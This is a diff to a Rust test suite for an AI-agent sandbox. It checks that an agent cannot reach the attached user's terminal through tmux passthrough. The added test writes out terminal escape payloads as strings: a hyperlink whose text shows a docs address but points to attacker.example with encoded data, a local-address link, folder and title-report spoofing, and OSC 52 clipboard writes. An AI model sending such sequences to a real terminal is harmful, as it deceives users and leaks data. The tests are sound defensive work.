@@ -267,7 +267,9 @@ async fn a_secret_the_agent_could_read_or_swap_is_refused_at_start() -> anyhow::
 #[tokio::test]
 async fn the_agent_cannot_write_the_users_clipboard_through_the_launchers_attach() -> anyhow::Result<()> {
     let launcher = sandbox_tests::launcher::binary()?.display().to_string();
-    clipboard_write_while_attached(move |id| format!("{launcher} attach {id}")).await
+    let seen = seen_while_attached(move |id| format!("{launcher} attach {id}"), CLIPBOARD_WRITE).await?;
+    assert_no_clipboard_write(&seen);
+    Ok(())
 }
 
 /// The same, with the user attached by hand, `docker exec -it C sandbox-attach` (the way the
@@ -275,11 +277,41 @@ async fn the_agent_cannot_write_the_users_clipboard_through_the_launchers_attach
 /// filters as root, between the agent's tmux client and the user's terminal.
 #[tokio::test]
 async fn the_agent_cannot_write_the_users_clipboard_through_sandbox_attach() -> anyhow::Result<()> {
-    clipboard_write_while_attached(|id| format!("docker exec -it {id} sandbox-attach")).await
+    let seen =
+        seen_while_attached(|id| format!("docker exec -it {id} sandbox-attach"), CLIPBOARD_WRITE).await?;
+    assert_no_clipboard_write(&seen);
+    Ok(())
 }
 
-/// The attack, with the user attached by `attach(container id)`, a command run on a terminal.
-async fn clipboard_write_while_attached(attach: impl FnOnce(&str) -> String) -> anyhow::Result<()> {
+/// What the agent writes to its pane (through tmux passthrough, so that tmux passes it
+/// unchanged) so that the user clicks it: a link whose text shows the docs over an address
+/// carrying its data, one to the user's own machine, the folder the user's next tab opens in,
+/// and a title report, whose answer the terminal would type into the session. The user's
+/// terminal gets the text, none of the rest.
+#[tokio::test]
+async fn the_agent_cannot_show_the_user_a_link_whose_text_lies() -> anyhow::Result<()> {
+    let payload = r"printf '\033Ptmux;\033\033]8;;https://attacker.example/?d=c2VjcmV0\033\033\\\033\\' > $T; \
+         printf 'https://docs.anthropic.com/en/docs' > $T; \
+         printf '\033Ptmux;\033\033]8;;\033\033\\\033\\' > $T; \
+         printf '\033Ptmux;\033\033]8;;http://127.0.0.1:8080/x\033\033\\127.0.0.1\033\033]8;;\033\033\\\033\\' > $T; \
+         printf '\033Ptmux;\033\033]7;file://host/home/user/evil\033\033\\\033\\' > $T; \
+         printf '\033Ptmux;\033\033[21t\033\\' > $T";
+    let seen = seen_while_attached(|id| format!("docker exec -it {id} sandbox-attach"), payload).await?;
+    assert!(
+        seen.contains("before-mark") && seen.contains("after-mark"),
+        "the terminal showed nothing: {seen:?}"
+    );
+    // The positive control: the link's text reached the user.
+    assert!(seen.contains("https://docs.anthropic.com/en/docs"), "{seen:?}");
+    for sequence in ["]8;;https://attacker", "]8;;http://127.0.0.1", "]7;", "[21t"] {
+        assert!(!seen.contains(sequence), "`{sequence}` reached the user's terminal: {seen:?}");
+    }
+    Ok(())
+}
+
+/// The attack, with the user attached by `attach(container id)`, a command run on a terminal:
+/// what the terminal received.
+async fn seen_while_attached(attach: impl FnOnce(&str) -> String, payload: &str) -> anyhow::Result<String> {
     use sandbox_tests::launcher::{Launcher, Project};
     use tokio::io::AsyncReadExt as _;
     let (launcher, project) = (Launcher::new()?, Project::new()?);
@@ -295,15 +327,14 @@ async fn clipboard_write_while_attached(attach: impl FnOnce(&str) -> String) -> 
         .stdout(std::process::Stdio::piped())
         .kill_on_drop(true)
         .spawn()?;
-    write_to_the_clipboard_once_attached(&id).await?;
+    write_once_attached(&id, payload).await?;
     tokio::time::sleep(Duration::from_millis(1000)).await;
     exec(&id, &["sandbox-exec", "--", "tmux", "detach-client", "-s", "agent"], None).await?;
     let mut stdout = user.stdout.take().expect("piped");
     let mut seen = Vec::new();
     let _ = tokio::time::timeout(Duration::from_secs(10), stdout.read_to_end(&mut seen)).await;
     let _ = user.kill().await;
-    assert_no_clipboard_write(&String::from_utf8_lossy(&seen));
-    Ok(())
+    Ok(String::from_utf8_lossy(&seen).into_owned())
 }
 
 /// The same, with the user on the container's own terminal (`docker run -it`): PID 1 attaches
@@ -314,7 +345,7 @@ async fn the_agent_cannot_write_the_users_clipboard_through_the_containers_termi
     let shell = sandbox_tests::images::image("shell").await?;
     let (container, mut attached) =
         sandbox_tests::docker::start_with_terminal(&shell, "tty-clipboard").await?;
-    write_to_the_clipboard_once_attached(&container.0).await?;
+    write_once_attached(&container.0, CLIPBOARD_WRITE).await?;
     let mut seen = String::new();
     let deadline = tokio::time::Instant::now() + Duration::from_secs(15);
     while !seen.contains("after-mark") {
@@ -381,9 +412,14 @@ async fn the_agent_cannot_keep_a_root_relay_alive_after_its_client_lets_go() -> 
     Ok(())
 }
 
-/// As the agent, once a client is attached: passthrough on, then the pane's text around OSC 52
-/// clipboard writes, wrapped for passthrough and bare.
-async fn write_to_the_clipboard_once_attached(id: &str) -> anyhow::Result<()> {
+/// OSC 52 clipboard writes, wrapped for tmux passthrough and bare, written to the pane's
+/// terminal `$T`.
+const CLIPBOARD_WRITE: &str = r"printf '\033Ptmux;\033\033]52;c;QUdFTlQtQ0xJUEJPQVJE\007\033\\' > $T; \
+    printf '\033]52;c;QUdFTlQtQ0xJUEJPQVJE\007' > $T";
+
+/// As the agent, once a client is attached: passthrough on, then the pane's text around
+/// `payload`, a shell script that writes to the pane's terminal `$T`.
+async fn write_once_attached(id: &str, payload: &str) -> anyhow::Result<()> {
     let agent =
         |script: String| async move { exec(id, &["sandbox-exec", "--", "sh", "-c", &script], None).await };
     let mut attached = false;
@@ -397,12 +433,8 @@ async fn write_to_the_clipboard_once_attached(id: &str) -> anyhow::Result<()> {
     anyhow::ensure!(attached, "no client ever attached");
     assert_eq!(agent("tmux set -g allow-passthrough on".into()).await?.code, 0);
     let tty = agent("tmux display-message -p '#{pane_tty}'".into()).await?.stdout.trim().to_string();
-    let write = format!(
-        r"printf 'before-%s\n' mark > {tty}; \
-          printf '\033Ptmux;\033\033]52;c;QUdFTlQtQ0xJUEJPQVJE\007\033\\' > {tty}; \
-          printf '\033]52;c;QUdFTlQtQ0xJUEJPQVJE\007' > {tty}; \
-          printf 'after-%s\n' mark > {tty}"
-    );
+    let write =
+        format!("T={tty}; printf 'before-%s\\n' mark > $T; {payload}; printf 'after-%s\\n' mark > $T");
     assert_eq!(agent(write).await?.code, 0);
     Ok(())
 }
